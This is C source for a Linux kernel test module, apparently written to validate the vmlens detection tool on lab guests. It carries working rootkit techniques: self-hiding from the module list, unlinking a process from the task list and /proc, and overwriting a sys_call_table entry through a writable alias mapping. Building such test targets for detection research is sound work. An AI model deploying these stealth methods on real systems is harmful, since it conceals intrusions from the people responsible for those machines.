// SPDX-License-Identifier: GPL-2.0
/*
 * vmlens_rootkit: a deliberately rootkit-like module for vmlens's lab guests.
 *
 * It does three things a real kernel rootkit does, so that vmlens's detection checks can be
 * proved against a live guest: the guest's own tools stop seeing a process and the module,
 * while memory read from outside still holds both.
 *
 *  - hides itself from the module list (/proc/modules, lsmod). Its sysfs kobject
 *    (/sys/module/vmlens_rootkit), its memory, its symbol table and its entry in the module
 *    address tree stay, because those are what detection compares the list against.
 *  - hides one process from the task list and from /proc's directory listing (ps, top). It
 *    stays in the pid IDR and on the run queues: it keeps running, /proc/<pid> still opens,
 *    kill(<pid>) still reaches it.
 *  - replaces one entry of sys_call_table with a wrapper in this module.
 *
 * Parameters:
 *   hide_pid=<pid>       process to hide (0: none). Must be a single-threaded user process.
 *   hook_syscall=<nr>    x86-64 system call number whose table entry is replaced
 *                        (default __NR_getdents64; -1: none).
 *   hide_module=<bool>   hide the module itself (default 1). A hidden module cannot be found
 *                        by rmmod, so it stays until reboot; with 0 it can be unloaded, which
 *                        restores the table entry and shows the process again.
 *
 * On success it prints one line to the kernel log with everything it changed, as ground truth
 * for tests. Bad parameters make the load fail with -EINVAL and change nothing.
 *
 * Written for Debian's 6.1 and 6.12 kernels (x86-64).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/completion.h>
#include <linux/delay.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/task_work.h>
#include <linux/vmalloc.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

#ifndef CONFIG_X86_64
#error "vmlens_rootkit is written for x86-64"
#endif
#ifndef CONFIG_KPROBES
#error "vmlens_rootkit finds unexported symbols through a kprobe and needs CONFIG_KPROBES"
#endif

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "pid of a process to hide from the task list and /proc (0: none)");

static int hook_syscall = __NR_getdents64;
module_param(hook_syscall, int, 0444);
MODULE_PARM_DESC(hook_syscall, "x86-64 syscall number whose sys_call_table entry is replaced (-1: none)");

static bool hide_module = true;
module_param(hide_module, bool, 0444);
MODULE_PARM_DESC(hide_module, "hide this module from the module list (then it cannot be unloaded)");

/* ---- Symbols the kernel does not export ---------------------------------------------------- */

typedef unsigned long (*kallsyms_lookup_name_fn)(const char *name);
static kallsyms_lookup_name_fn lookup_name;

/*
 * kallsyms_lookup_name is not exported since 5.7, but kprobes still resolve symbol names: a
 * kprobe registered on it reports the function's address.
 */
static int find_kallsyms_lookup_name(void)
{
	static const u8 endbr64[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	u8 *addr;
	int err;

	err = register_kprobe(&probe);
	if (err)
		return err;
	addr = (u8 *)probe.addr;
	unregister_kprobe(&probe);
	if (!addr)
		return -ENOENT;
	/*
	 * With IBT the kprobe sits after the function's ENDBR64; an indirect call must land on
	 * the ENDBR64 itself.
	 */
	if (memcmp(addr - sizeof(endbr64), endbr64, sizeof(endbr64)) == 0)
		addr -= sizeof(endbr64);
	lookup_name = (kallsyms_lookup_name_fn)addr;
	return 0;
}

static rwlock_t *tasklist_lock_ptr;
static struct mutex *module_mutex_ptr;
static struct callback_head *(*task_work_cancel_match_fn)(struct task_struct *task,
		bool (*match)(struct callback_head *, void *data), void *data);
static sys_call_ptr_t *syscall_table;

static int resolve_symbols(void)
{
	tasklist_lock_ptr = (rwlock_t *)lookup_name("tasklist_lock");
	module_mutex_ptr = (struct mutex *)lookup_name("module_mutex");
	task_work_cancel_match_fn = (void *)lookup_name("task_work_cancel_match");
	syscall_table = (sys_call_ptr_t *)lookup_name("sys_call_table");
	if (!tasklist_lock_ptr || !module_mutex_ptr || !task_work_cancel_match_fn || !syscall_table) {
		pr_err("cannot resolve tasklist_lock, module_mutex, task_work_cancel_match or sys_call_table\n");
		return -ENOENT;
	}
	return 0;
}

/* ---- The system call hook ------------------------------------------------------------------ */

/*
 * Since the 2024 branch-history-injection fixes (6.1.85 and later, and 6.12), x86-64 dispatches
 * system calls through a switch in x64_sys_call() and sys_call_table is read only by syscall
 * tracing. On those kernels the replaced entry changes no system call's behaviour: the hook is
 * visible only to whoever compares the table with the kernel's own handlers, which is exactly
 * what detection does. On older kernels the wrapper runs and passes every call through.
 */
static sys_call_ptr_t original_handler;
static int hooked_nr = -1;
static atomic_t calls_in_wrapper = ATOMIC_INIT(0);
static atomic_long_t wrapper_calls = ATOMIC_LONG_INIT(0);

static long hooked_handler(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&calls_in_wrapper);
	atomic_long_inc(&wrapper_calls);
	ret = original_handler(regs);
	atomic_dec(&calls_in_wrapper);
	return ret;
}

/*
 * The table is read-only after boot. Clearing CR0.WP around the store would also work under
 * TCG, but faults when CR4.CET is on; a second, writable mapping of the same physical page
 * works on every CPU and leaves the kernel's own mapping untouched.
 */
static int write_table_entry(int nr, sys_call_ptr_t handler)
{
	unsigned long addr = (unsigned long)&syscall_table[nr];
	struct page *page;
	void *alias;

	if (!virt_addr_valid((void *)addr))
		return -EFAULT;
	page = virt_to_page((void *)addr);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(sys_call_ptr_t *)(alias + offset_in_page(addr)), handler);
	vunmap(alias);
	return READ_ONCE(syscall_table[nr]) == handler ? 0 : -EIO;
}

static int install_hook(int nr)
{
	unsigned long close_handler = lookup_name("__x64_sys_close");
	int err;

	/* A wrong table address would turn the store below into memory corruption: check it. */
	if (!close_handler || (unsigned long)READ_ONCE(syscall_table[__NR_close]) != close_handler) {
		pr_err("sys_call_table at 0x%lx does not look like the x86-64 table\n",
		       (unsigned long)syscall_table);
		return -ENOENT;
	}
	original_handler = READ_ONCE(syscall_table[nr]);
	err = write_table_entry(nr, hooked_handler);
	if (err) {
		pr_err("cannot write sys_call_table[%d]: %d\n", nr, err);
		return err;
	}
	hooked_nr = nr;
	return 0;
}

static void remove_hook(void)
{
	if (hooked_nr < 0)
		return;
	if (READ_ONCE(syscall_table[hooked_nr]) == hooked_handler)
		write_table_entry(hooked_nr, original_handler);
	else
		pr_warn("sys_call_table[%d] was changed by someone else; left as it is\n", hooked_nr);
	/*
	 * A task may have loaded the entry and not yet entered the wrapper: a tasks-RCU grace
	 * period waits until every task has left such a spot; the counter covers calls that
	 * sleep inside the original handler.
	 */
	synchronize_rcu_tasks();
	while (atomic_read(&calls_in_wrapper) > 0)
		msleep(10);
	hooked_nr = -1;
}

/* ---- Hiding a process ---------------------------------------------------------------------- */

/*
 * ps lists /proc, and /proc's directory walks the pid IDR and keeps a pid only if its
 * pid->tasks[PIDTYPE_TGID] list has a task (next_tgid() in fs/proc/base.c). So hiding takes two
 * unlinks: task_struct.tasks from the task list (for_each_process) and
 * task_struct.pid_links[PIDTYPE_TGID] from that pid's list. The PIDTYPE_PID link, the IDR
 * entry and the run queue are left alone: the process keeps running and can still be found
 * by its pid.
 *
 * Both are RCU lists: after the unlink, a reader may still stand on the task and follow its
 * next pointer, so the node keeps pointing into the list until a grace period has passed.
 * Then it is made self-referential, so that when the process exits, __unhash_process()
 * unlinks it harmlessly: list_del_rcu() of a self-linked list_head and hlist_del_rcu() of a
 * node whose pprev points at its own next touch only the node itself.
 *
 * Between the two steps the node must not be unlinked by the kernel: the task exiting and
 * being reaped in that window would write through stale neighbours. The work therefore runs
 * in the hidden task itself (task_work, like a signal): a task cannot be reaped while it is
 * running this function.
 */
static struct task_struct *hidden_task;
static struct callback_head hide_work;
static DECLARE_COMPLETION(hide_done);
static int hide_result;

static void hide_current_task(struct callback_head *work)
{
	struct task_struct *task = current;
	struct hlist_node *tgid_link = &task->pid_links[PIDTYPE_TGID];

	write_lock_irq(tasklist_lock_ptr);
	/* A thread created since the load checks would be left behind with a dangling leader. */
	if (!thread_group_empty(task)) {
		write_unlock_irq(tasklist_lock_ptr);
		hide_result = -EBUSY;
		complete(&hide_done);
		return;
	}
	list_del_rcu(&task->tasks);
	hlist_del_rcu(tgid_link);
	write_unlock_irq(tasklist_lock_ptr);

	synchronize_rcu();

	write_lock_irq(tasklist_lock_ptr);
	INIT_LIST_HEAD(&task->tasks);
	WRITE_ONCE(tgid_link->next, NULL);
	WRITE_ONCE(tgid_link->pprev, &tgid_link->next);
	write_unlock_irq(tasklist_lock_ptr);

	hide_result = 0;
	complete(&hide_done);
}

static bool is_hide_work(struct callback_head *work, void *data)
{
	return work == data;
}

static struct task_struct *find_task_to_hide(int nr)
{
	struct pid *pid = find_get_pid(nr);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	const char *why = NULL;

	put_pid(pid);
	if (!task)
		why = "no such process";
	else if (task->flags & PF_KTHREAD)
		why = "is a kernel thread";
	else if (task->flags & PF_EXITING)
		why = "is exiting";
	else if (task != task->group_leader)
		why = "is a thread, not a process";
	else if (!thread_group_empty(task))
		why = "has several threads";
	else if (same_thread_group(task, current))
		why = "is the loading process";
	if (why) {
		pr_err("hide_pid=%d: %s\n", nr, why);
		if (task)
			put_task_struct(task);
		return NULL;
	}
	return task;
}

static int hide_task(struct task_struct *task)
{
	int err;

	init_task_work(&hide_work, hide_current_task);
	err = task_work_add(task, &hide_work, TWA_SIGNAL);
	if (err)
		return -EINVAL; /* the process began to exit */
	/*
	 * A sleeping process is woken to run the work; a stopped or traced one runs it only when
	 * it continues, so wait a bounded time and withdraw the work if it has not started.
	 */
	if (!wait_for_completion_timeout(&hide_done, 10 * HZ)) {
		if (task_work_cancel_match_fn(task, is_hide_work, &hide_work)) {
			pr_err("pid %d did not run the hiding work within 10 s (stopped?)\n", task->pid);
			return -ETIMEDOUT;
		}
		wait_for_completion(&hide_done); /* it is running right now */
	}
	return hide_result;
}

/* Put a hidden process back, unless it has exited and been reaped meanwhile. */
static void unhide_task(struct task_struct *task)
{
	write_lock_irq(tasklist_lock_ptr);
	if (task->tasks.next == &task->tasks && task->tasks.prev == &task->tasks) {
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
		hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID],
				   &task_tgid(task)->tasks[PIDTYPE_TGID]);
	}
	write_unlock_irq(tasklist_lock_ptr);
}

/* ---- Hiding the module --------------------------------------------------------------------- */

/*
 * The module list is read under RCU (kallsyms, find_module) as well as under module_mutex, so
 * the same two steps as for a task. The self-linked entry keeps free_module()'s
 * list_del_rcu() harmless should the module ever be freed.
 */
static void hide_this_module(void)
{
	mutex_lock(module_mutex_ptr);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex_ptr);
	synchronize_rcu();
	mutex_lock(module_mutex_ptr);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	mutex_unlock(module_mutex_ptr);
}

/* ---- Load and unload ----------------------------------------------------------------------- */

static int __init vmlens_rootkit_init(void)
{
	const char *dispatch;
	int err;

	if (hide_pid < 0 || hook_syscall < -1 || hook_syscall >= NR_syscalls) {
		pr_err("bad parameters: hide_pid=%d (>= 0) hook_syscall=%d (-1 or 0..%d)\n",
		       hide_pid, hook_syscall, NR_syscalls - 1);
		return -EINVAL;
	}
	err = find_kallsyms_lookup_name();
	if (err) {
		pr_err("cannot find kallsyms_lookup_name through a kprobe: %d\n", err);
		return err;
	}
	err = resolve_symbols();
	if (err)
		return err;

	if (hide_pid > 0) {
		hidden_task = find_task_to_hide(hide_pid);
		if (!hidden_task)
			return -EINVAL;
	}
	if (hook_syscall >= 0) {
		err = install_hook(hook_syscall);
		if (err)
			goto fail;
	}
	if (hidden_task) {
		err = hide_task(hidden_task);
		if (err)
			goto fail;
	}
	/* Last: once off the list, a failed load could not be cleaned up by the kernel. */
	if (hide_module)
		hide_this_module();

	dispatch = lookup_name("x64_sys_call") ? "x64_sys_call" : "sys_call_table";
	if (hooked_nr >= 0)
		pr_info("loaded: module=%s struct_module=0x%lx hidden_module=%d pid=%d comm=%s task=0x%lx syscall=%d sys_call_table=0x%lx original=0x%lx(%ps) hook=0x%lx dispatch=%s\n",
			THIS_MODULE->name, (unsigned long)THIS_MODULE, hide_module,
			hidden_task ? hidden_task->pid : 0, hidden_task ? hidden_task->comm : "-",
			(unsigned long)hidden_task, hooked_nr, (unsigned long)syscall_table,
			(unsigned long)original_handler, original_handler,
			(unsigned long)hooked_handler, dispatch);
	else
		pr_info("loaded: module=%s struct_module=0x%lx hidden_module=%d pid=%d comm=%s task=0x%lx syscall=-1 dispatch=%s\n",
			THIS_MODULE->name, (unsigned long)THIS_MODULE, hide_module,
			hidden_task ? hidden_task->pid : 0, hidden_task ? hidden_task->comm : "-",
			(unsigned long)hidden_task, dispatch);
	return 0;

fail:
	remove_hook();
	if (hidden_task) {
		put_task_struct(hidden_task);
		hidden_task = NULL;
	}
	return err;
}

/* Reachable only with hide_module=0: a hidden module cannot be named to rmmod. */
static void __exit vmlens_rootkit_exit(void)
{
	remove_hook();
	if (hidden_task) {
		unhide_task(hidden_task);
		put_task_struct(hidden_task);
	}
	pr_info("unloaded: wrapper ran %ld times\n", atomic_long_read(&wrapper_calls));
}

module_init(vmlens_rootkit_init);
module_exit(vmlens_rootkit_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit-like test module for vmlens lab guests: hides itself and a process, hooks a syscall");
MODULE_AUTHOR("vmlens");
